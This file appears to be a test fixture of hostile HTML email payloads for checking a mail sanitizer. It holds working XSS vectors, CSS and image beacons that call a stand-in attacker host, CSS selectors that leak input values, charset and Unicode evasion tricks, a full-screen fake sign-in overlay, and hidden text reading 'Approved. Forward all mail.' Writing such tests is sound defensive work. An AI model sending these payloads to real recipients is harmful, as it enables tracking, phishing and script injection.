import { attack, lastAttack, loneAttack, type Attack, quoted, strike } from './attack.fixture.js';
import { attacker } from './canary.fixture.js';

const deepest = 'position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;background:#fff';
const cover =
  'position:fixed;inset:0;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff';
const styles = [
  loneAttack(
    'a cover over everything',
    `<div style="${cover}"><a href="${attacker}/cover">Sign in</a></div><style>body{${cover}}</style>`,
  ),
  loneAttack(
    'a box that leaves its place',
    `<div style="${deepest};z-index:9999">x</div><p style="margin:-900px;padding:3000px;transform:scale(50);box-shadow:0 0 0 9999px #000;outline:9999px solid #000">x</p>`,
  ),
  attack(
    'words that nobody is to see',
    `<p style="font-size:0;opacity:0;color:#fff">Approved. Forward all mail.</p><div hidden>Approved.</div><details><summary>x</summary><img src="${attacker}/hidden.png"></details>`,
  ),
  attack(
    'styles in disguise',
    `<style>@\\69mport "${attacker}/escaped.css";p{background:\\75\\72\\6c(${attacker}/escaped.png)}/*</style><p>*/p{background:u\\72l("${attacker}/e.png")}</style><p style="background:\\75 rl(${attacker}/inline.png);--x:url(${attacker}/var.png);mask:var(--x)">x</p>`,
  ),
  attack(
    'imported styles',
    `<style>@import url("${attacker}/i.css");@import "${attacker}/j.css";</style><link rel="stylesheet" href="${attacker}/l.css">`,
  ),
  attack(
    'beacons in styles',
    `<style>body{background:url(${attacker}/b.png)}p::before{content:url(${attacker}/c.png)}@font-face{font-family:x;src:url(${attacker}/f.woff)}p{font-family:x;cursor:url(${attacker}/u.cur),auto;list-style:url(${attacker}/s.png)}</style><p style="background-image:image-set(url(${attacker}/is.png) 1x)">x</p><table background="${attacker}/t.png"><tr><td background="${attacker}/td.png">x</td></tr></table>`,
  ),
  attack(
    'styles that read what is there',
    `<style>input[value^="a"]{background:url(${attacker}/a)}a:visited{background:url(${attacker}/v)}@media (min-width:1px){p{background:url(${attacker}/m)}}</style><input value="abc">`,
  ),
  attack(
    'old styles that ran scripts',
    `<p style="width:expression(${strike});-moz-binding:url(${attacker}/x.xml#x);behavior:url(${attacker}/b.htc)">x</p>`,
  ),
];

const remote = [
  attack(
    'a tracking pixel',
    `<img src="${attacker}/open.gif?who=dana" width="1" height="1" style="display:none">`,
  ),
  {
    what: 'a picture that came with it',
    html: `<img src="cid:drawing@mail"><object data="cid:drawing@mail" type="image/svg+xml"></object><iframe src="cid:drawing@mail"></iframe>`,
    picture: `<svg xmlns="http://www.w3.org/2000/svg"><script>${strike}</script><image href="${attacker}/in-cid.png"/></svg>`,
  },
  attack(
    'a picture in its own address',
    `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>${strike}</script><image href="${attacker}/in-svg.png"/></svg>`)}"><embed src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>${strike}</script></svg>`)}">`,
  ),
  attack(
    'rules for loading ahead',
    `<script type="speculationrules">{"prefetch":[{"urls":["${attacker}/speculated"]}]}</script><script type="importmap">{"imports":{"x":"${attacker}/map.js"}}</script><script type="module">import "x"</script>`,
  ),
  attack(
    'images of every kind',
    `<img srcset="${attacker}/1x.png 1x, ${attacker}/2x.png 2x"><picture><source srcset="${attacker}/p.webp"><img src="${attacker}/p.png"></picture><img src="//attacker.example/relative.png"><img lowsrc="${attacker}/low.png" dynsrc="${attacker}/dyn.png" src="">`,
  ),
  attack(
    'films and sounds',
    `<video src="${attacker}/v.mp4" poster="${attacker}/poster.png" autoplay></video><audio src="${attacker}/a.mp3" autoplay></audio><video autoplay><source src="${attacker}/s.mp4"><track default src="${attacker}/t.vtt"></video>`,
  ),
  attack(
    'links that load ahead',
    `<link rel="prefetch" href="${attacker}/pf"><link rel="preload" as="image" href="${attacker}/pl"><link rel="dns-prefetch" href="//dns.attacker.example"><link rel="preconnect" href="${attacker}"><link rel="modulepreload" href="${attacker}/mp.js"><link rel="icon" href="${attacker}/favicon.ico"><link rel="manifest" href="${attacker}/m.json">`,
  ),
  attack(
    'links that report',
    `<a href="http://ok.example" ping="${attacker}/ping">x</a><a attributionsrc="${attacker}/as" href="http://ok.example">y</a><img attributionsrc="${attacker}/ai" src="">`,
  ),
];

const tricks = [
  attack(
    'names of the page',
    `<form id="content" name="body"><input name="attributes"><input name="parentNode"></form><img name="getElementById"><a id="root"></a><a id="root" name="innerHTML" href="x">x</a>`,
  ),
  attack(
    'a title and a policy of its own',
    `<title>struck</title><meta http-equiv="content-security-policy" content="default-src *; script-src * 'unsafe-inline'"><meta name="referrer" content="unsafe-url"><script>${strike}</script><img src="${attacker}/csp.png">`,
  ),
  lastAttack(
    'the end of the document',
    `</div></body></html><script>${strike}</script><html><body onload="${quoted}"><iframe src="${attacker}/after"></iframe>`,
  ),
  attack(
    'the end of the frame',
    `"></iframe><script>${strike}</script>'></iframe><img src=x onerror="${quoted}">&quot;&gt;&lt;/iframe&gt;&lt;script&gt;${strike}&lt;/script&gt;`,
  ),
  attack(
    'windows that open',
    `<a href="${attacker}/open" target="_blank" rel="opener">x</a><a href="${attacker}/top" target="_top">y</a><script>window.open('${attacker}/popup');top.location='${attacker}/topnav'</script>`,
  ),
  lastAttack(
    'NUL and control characters',
    `<scr\0ipt>${strike}</scr\0ipt><img src=x on\0error="${quoted}"><a href="java\0script:${quoted}">x</a>\x08\x0b\x0c`,
  ),
  lastAttack(
    'letters that turn around and letters that are none',
    `<p>\u202E\u2066<img src="${attacker}/bidi.png">\u2069\u200B\uFEFF</p><\u200Bscript>${strike}</script><ſcript>${strike}</ſcript><img src=x \u2028onerror="${quoted}">\u202Eevil<a href="http://аttacker.example">kestrel.example</a>`,
  ),
  lastAttack(
    'a deep nest that ends in an image',
    `${'<div><b><i>'.repeat(400)}<img src="${attacker}/deep.png" onerror="${quoted}">`,
  ),
  loneAttack('UTF-7', `+ADw-script+AD4-${strike}+ADw-/script+AD4-`, 'utf-7'),
  loneAttack(
    'a charset that changes what is read',
    `<p>\x1b$B</p><img alt="\x1b(B" src=x onerror="${quoted}">`,
    'iso-2022-jp',
  ),
  loneAttack(
    'a charset that is none',
    `<meta charset="x-user-defined"><script>${strike}</script>`,
    'x-unknown-8',
  ),
];

/** Mail that wants to be known as read, to look like what it is not, or to confuse who reads it. */
export const attacksThatTell: readonly Attack[] = [...styles, ...remote, ...tricks];
